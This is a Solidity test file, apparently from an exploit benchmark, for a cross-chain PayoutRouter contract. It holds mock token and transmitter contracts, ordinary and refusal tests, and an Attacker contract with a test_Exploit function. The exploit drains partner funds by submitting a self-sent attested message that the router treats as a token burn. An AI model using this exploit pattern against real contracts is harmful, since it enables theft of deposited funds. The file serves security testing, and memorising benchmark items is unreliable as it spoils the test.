// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./PayoutRouter.sol";
import {IMessageHandler} from "./context/IMessageTransmitter.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-c6d8c651-d333-46b6-b020-6ffa26ce22a6

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function addr(uint256 key) external returns (address);
    function warp(uint256 time) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar is ERC20 {
    address private owner = msg.sender;
    address private minter = msg.sender;

    constructor() ERC20("Dollar", "USD") {}

    /// Hands the minting over.
    function appoint(address minter_) external {
        require(msg.sender == owner, "owner only");
        minter = minter_;
    }

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Transmitter is IMessageTransmitter {
    address internal attester;
    mapping(bytes32 => bool) internal received;

    constructor(address attester_) {
        attester = attester_;
    }

    function receiveMessage(Message calldata m, bytes calldata attestation) external returns (bool) {
        bytes32 digest = keccak256(abi.encode(m));
        (uint8 v, bytes32 r, bytes32 s) = abi.decode(attestation, (uint8, bytes32, bytes32));
        require(ecrecover(digest, v, r, s) == attester, "not attested");
        require(!received[digest], "received");
        require(m.destinationCaller == address(0) || m.destinationCaller == msg.sender, "caller");
        received[digest] = true;
        return IMessageHandler(m.recipient).handleReceiveMessage(m.sourceDomain, m.sender, m.body);
    }
}

contract Minter is IMessageHandler {
    Transmitter internal transmitter;
    Dollar internal dollar;
    bytes32 internal burner;

    constructor(Transmitter transmitter_, Dollar dollar_, bytes32 burner_) {
        transmitter = transmitter_;
        dollar = dollar_;
        burner = burner_;
    }

    function handleReceiveMessage(uint32, bytes32 sender, bytes calldata body) external returns (bool) {
        require(msg.sender == address(transmitter) && sender == burner, "not a burn");
        Burn memory burn = abi.decode(body, (Burn));
        dollar.mint(burn.mintRecipient, burn.amount);
        return true;
    }
}

/// Receives a message and declines it.
contract Declining is IMessageHandler {
    function handleReceiveMessage(uint32, bytes32, bytes calldata) external pure returns (bool) {
        return false;
    }
}

/// A dollar that calls once when it is moved, and hands on a refusal.
contract Calling {
    address internal callee;
    bytes internal data;

    function prepare(address callee_, bytes calldata data_) external {
        callee = callee_;
        data = data_;
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function transfer(address, uint256) external returns (bool) {
        bytes memory call_ = data;
        if (call_.length == 0) return true;
        delete data;
        (bool ok, bytes memory out) = callee.call(call_);
        if (!ok) {
            assembly {
                revert(add(out, 32), mload(out))
            }
        }
        return true;
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }
}

/// A dollar of which everybody has one less once it has received a message.
contract Sinking is IMessageHandler {
    uint256 internal held = 1;

    function handleReceiveMessage(uint32, bytes32, bytes calldata) external returns (bool) {
        held = 0;
        return true;
    }

    function balanceOf(address) external view returns (uint256) {
        return held;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return true;
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant KEY = 0xA77E57;
    uint32 internal constant SOURCE = 6;
    bytes32 internal constant BURNER = "issuer's burner";
    bytes32 internal constant TOKEN = "remote dollar";
    address internal constant PARTNER = address(0x9A47);
    address internal constant DELEGATE = address(0xDE1E);
    address internal constant PAYEE = address(0x9A1E);
    address internal constant OPERATOR = address(0x0BE4);
    address internal constant GUARDIAN = address(0x64A4);
    address internal constant TREASURER = address(0x74EA);
    uint256 internal constant KEPT = 190_000e6;

    Dollar internal dollar;
    Transmitter internal transmitter;
    Minter internal minter;
    PayoutRouter internal router;
    Attacker internal mallory;
    Message internal sent;
    bytes internal attested;

    function setUp() public {
        vm.warp(1_787_000_000);
        dollar = new Dollar();
        transmitter = new Transmitter(vm.addr(KEY));
        minter = new Minter(transmitter, dollar, BURNER);
        router = _router(address(dollar));
        dollar.mint(PARTNER, KEPT);
        dollar.appoint(address(minter));
        vm.prank(PARTNER);
        dollar.approve(address(router), KEPT);
        vm.prank(PARTNER);
        router.deposit(KEPT);

        // the attacker sends an ordinary message to a contract of its own; the attesters sign every message
        mallory = new Attacker(router);
        uint256 amount = 190_090e6;
        sent = Message(
            SOURCE,
            77,
            bytes32(uint256(uint160(address(mallory)))),
            address(mallory),
            address(router),
            abi.encode(Burn(TOKEN, amount, address(router), address(mallory), 0))
        );
        attested = _attest(sent);
    }

    function _router(address token) internal returns (PayoutRouter made) {
        made = new PayoutRouter(IERC20(token), transmitter, address(this));
        made.initialize(OPERATOR, GUARDIAN, TREASURER, 50_000e6);
        vm.prank(OPERATOR);
        made.setSource(SOURCE, TOKEN);
    }

    function _attest(Message memory m) internal returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, keccak256(abi.encode(m)));
        return abi.encode(v, r, s);
    }

    function _message(Burn memory burn, uint64 nonce) internal view returns (Message memory) {
        return Message(SOURCE, nonce, BURNER, address(minter), address(router), abi.encode(burn));
    }

    function _burn(uint64 nonce) internal view returns (Message memory) {
        return _message(Burn(TOKEN, 10_000e6, address(router), PAYEE, 1e6), nonce);
    }

    function test_Regular() public {
        Message memory m = _burn(1);
        bytes memory a = _attest(m);
        require(router.quote(SOURCE, 10_000e6, 1e6) == 9_994e6, "quote");
        require(router.complete(m, a) == 9_994e6 && router.isCompleted(router.idOf(m)), "completed");
        require(dollar.balanceOf(PAYEE) == 9_994e6 && dollar.balanceOf(address(this)) == 1e6, "paid");
        vm.expectRevert("received");
        router.complete(m, a);

        // in advance, at the fee of that time
        m = _burn(2);
        vm.prank(PARTNER);
        router.advance(m);
        require(dollar.balanceOf(PAYEE) == 2 * 9_994e6 && router.partnerBalance(PARTNER) == KEPT - 9_994e6, "advanced");
        vm.prank(OPERATOR);
        router.setFeeBps(SOURCE, 10);
        vm.expectRevert("not attested");
        router.complete(m, a);
        Message[] memory ms = new Message[](2);
        bytes[] memory as_ = new bytes[](2);
        (ms[0], ms[1]) = (m, _burn(3));
        (as_[0], as_[1]) = (_attest(ms[0]), _attest(ms[1]));
        require(router.completeBatch(ms, as_) == 9_994e6 + 9_989e6, "batch");
        require(router.partnerBalance(PARTNER) == KEPT && router.totalPartnerBalance() == KEPT, "given back");

        // by a delegate
        vm.prank(PARTNER);
        router.setDelegate(DELEGATE, true);
        vm.prank(PARTNER);
        router.setDailyLimit(15_000e6);
        m = _burn(4);
        vm.prank(DELEGATE);
        router.advanceFor(m, PARTNER);
        require(router.availableToday(PARTNER) == 15_000e6 - 9_989e6, "used");
        vm.warp(block.timestamp + 1 days);
        require(router.availableToday(PARTNER) == 15_000e6, "another day");
        router.complete(m, _attest(m));

        vm.prank(TREASURER);
        require(router.collectFees(TREASURER) == 30e6 && dollar.balanceOf(TREASURER) == 30e6, "fees");
        vm.prank(PARTNER);
        router.withdraw(KEPT, PAYEE);
        require(dollar.balanceOf(address(router)) == 0, "books");

        vm.prank(OPERATOR);
        router.setAdvanceLimit(1e6);
        require(router.advanceLimit() == 1e6, "limit");
        Dollar other = new Dollar();
        other.mint(address(router), 5);
        vm.prank(TREASURER);
        router.recoverToken(other, PAYEE);
        require(other.balanceOf(PAYEE) == 5, "recovered");
        vm.prank(GUARDIAN);
        router.pause();
        router.unpause();
        bytes32 role = router.GUARDIAN_ROLE();
        router.grantRole(role, PAYEE);
        router.revokeRole(role, GUARDIAN);
        vm.prank(PAYEE);
        router.renounceRole(role, PAYEE);
        require(!router.hasRole(role, PAYEE) && !router.hasRole(role, GUARDIAN), "roles");
    }

    // What is refused, each from the state after setUp().

    function _lacks(bytes32 role) internal {
        vm.prank(PAYEE);
        vm.expectRevert(abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, PAYEE, role));
    }

    function test_RefusesStrangers() public {
        bytes32 operator = router.OPERATOR_ROLE();
        bytes32 treasurer = router.TREASURER_ROLE();
        bytes32 guardian = router.GUARDIAN_ROLE();
        _lacks(operator);
        router.setSource(SOURCE, "another dollar");
        _lacks(operator);
        router.setFeeBps(SOURCE, 1);
        _lacks(operator);
        router.setAdvanceLimit(1);
        _lacks(treasurer);
        router.collectFees(PAYEE);
        _lacks(treasurer);
        router.recoverToken(IERC20(address(this)), PAYEE);
        _lacks(guardian);
        router.pause();
        _lacks(0);
        router.grantRole(operator, PAYEE);
        _lacks(0);
        router.revokeRole(operator, OPERATOR);
        PayoutRouter other = new PayoutRouter(dollar, transmitter, address(this));
        _lacks(0);
        other.initialize(PAYEE, PAYEE, PAYEE, 1);
        vm.prank(GUARDIAN);
        router.pause();
        _lacks(0);
        router.unpause();
    }

    function test_RefusesSettings() public {
        vm.expectRevert("PayoutRouter: zero address");
        new PayoutRouter(IERC20(address(0)), transmitter, address(this));
        vm.expectRevert("PayoutRouter: zero address");
        new PayoutRouter(dollar, transmitter, address(0));
        vm.expectRevert(Initializable.InvalidInitialization.selector);
        router.initialize(PAYEE, PAYEE, PAYEE, 1);
        vm.prank(OPERATOR);
        vm.expectRevert("FeeSchedule: fee too high");
        router.setFeeBps(SOURCE, 101);
        vm.prank(TREASURER);
        vm.expectRevert("PayoutRouter: not recoverable");
        router.recoverToken(dollar, TREASURER);
    }

    function test_RefusesWhilePaused() public {
        vm.prank(GUARDIAN);
        router.pause();
        bytes4 paused = Pausable.EnforcedPause.selector;
        Message memory m = _burn(1);
        bytes memory a = _attest(m);
        vm.expectRevert(paused);
        router.deposit(0);
        vm.expectRevert(paused);
        router.advance(m);
        vm.expectRevert(paused);
        router.advanceFor(m, PARTNER);
        vm.expectRevert(paused);
        router.complete(m, a);
        vm.expectRevert(paused);
        router.completeBatch(new Message[](0), new bytes[](0));
    }

    function test_RefusesToAdvanceTwice() public {
        Message memory m = _burn(1);
        vm.prank(PARTNER);
        router.advance(m);
        vm.prank(PARTNER);
        vm.expectRevert("PayoutRouter: advanced");
        router.advance(m);

        m = _burn(2);
        router.complete(m, _attest(m));
        vm.prank(PARTNER);
        vm.expectRevert("PayoutRouter: completed");
        router.advance(m);
    }

    function test_RefusesAdvancesBeyondTheLimits() public {
        Message memory m = _message(Burn(TOKEN, 50_100e6, address(router), PAYEE, 1e6), 1);
        vm.prank(PARTNER);
        vm.expectRevert("PayoutRouter: above the limit");
        router.advance(m);
        m = _burn(1);
        vm.expectRevert("PartnerLedger: balance too small");
        router.advance(m);
        vm.prank(DELEGATE);
        vm.expectRevert("PayoutRouter: not a delegate");
        router.advanceFor(m, PARTNER);
        vm.prank(PARTNER);
        router.setDelegate(DELEGATE, true);
        vm.prank(DELEGATE);
        vm.expectRevert("DailyLimit: exceeded");
        router.advanceFor(m, PARTNER);
        vm.prank(PARTNER);
        vm.expectRevert("PartnerLedger: balance too small");
        router.withdraw(KEPT + 1, PARTNER);
    }

    function _refused(Message memory m, bytes memory reason) internal {
        bytes memory a = _attest(m);
        vm.expectRevert(reason);
        router.complete(m, a);
    }

    function test_RefusesMessagesThatAreNotForIt() public {
        Message memory m = _burn(1);
        m.destinationCaller = address(0);
        _refused(m, "PayoutRouter: other caller");
        m.destinationCaller = address(router);
        m.sourceDomain = 7;
        _refused(m, "PayoutRouter: unsupported source");
        m.body = abi.encode(Burn(0, 10_000e6, address(router), PAYEE, 1e6));
        _refused(m, "PayoutRouter: unsupported source");
        _refused(
            _message(Burn("another dollar", 10_000e6, address(router), PAYEE, 1e6), 1),
            "PayoutRouter: other token"
        );
        _refused(_message(Burn(TOKEN, 10_000e6, PAYEE, PAYEE, 1e6), 1), "PayoutRouter: other recipient");
        m = _burn(1);
        m.recipient = address(new Declining());
        _refused(m, "PayoutRouter: not accepted");
        vm.expectRevert("PayoutRouter: lengths differ");
        router.completeBatch(new Message[](0), new bytes[](1));
    }

    function test_RefusesADeliveryThatCostsDollars() public {
        Sinking sinking = new Sinking();
        PayoutRouter other = _router(address(sinking));
        Message memory m = Message(
            SOURCE, 1, BURNER, address(sinking), address(other), abi.encode(Burn(TOKEN, 0, address(other), PAYEE, 0))
        );
        bytes memory a = _attest(m);
        vm.expectRevert("PayoutRouter: not received");
        other.complete(m, a);
    }

    function test_RefusesCallsWhileDollarsMove() public {
        Calling calling = new Calling();
        PayoutRouter other = _router(address(calling));
        other.grantRole(other.TREASURER_ROLE(), address(calling));
        bytes[7] memory calls = [
            abi.encodeCall(PayoutRouter.collectFees, (PAYEE)),
            abi.encodeCall(PayoutRouter.deposit, (0)),
            abi.encodeCall(PayoutRouter.withdraw, (0, PAYEE)),
            abi.encodeCall(PayoutRouter.advance, (sent)),
            abi.encodeCall(PayoutRouter.advanceFor, (sent, PARTNER)),
            abi.encodeCall(PayoutRouter.complete, (sent, attested)),
            abi.encodeCall(PayoutRouter.completeBatch, (new Message[](0), new bytes[](0)))
        ];
        for (uint256 i = 0; i < calls.length; i++) {
            calling.prepare(address(other), calls[i]);
            vm.expectRevert(ReentrancyGuard.ReentrancyGuardReentrantCall.selector);
            other.withdraw(0, PAYEE);
        }
    }

    function exploit() public {
        mallory.run(sent, attested);
    }

    function test_Exploit() public {
        uint256 before = partnerFunds();
        exploit();
        require(partnerFunds() + 189_990e6 <= before, "nothing lost");
    }

    /// What the partner can still withdraw.
    function partnerFunds() public view returns (uint256) {
        uint256 balance = router.partnerBalance(PARTNER);
        uint256 held = dollar.balanceOf(address(router));
        return balance < held ? balance : held;
    }

    function target() public view returns (address) {
        return address(router);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// Receives its own message and claims that it was a burn.
contract Attacker is IMessageHandler {
    PayoutRouter internal router;

    constructor(PayoutRouter router_) {
        router = router_;
    }

    function handleReceiveMessage(uint32, bytes32, bytes calldata) external pure returns (bool) {
        return true;
    }

    function run(Message calldata m, bytes calldata attestation) external {
        router.complete(m, attestation);
    }
}
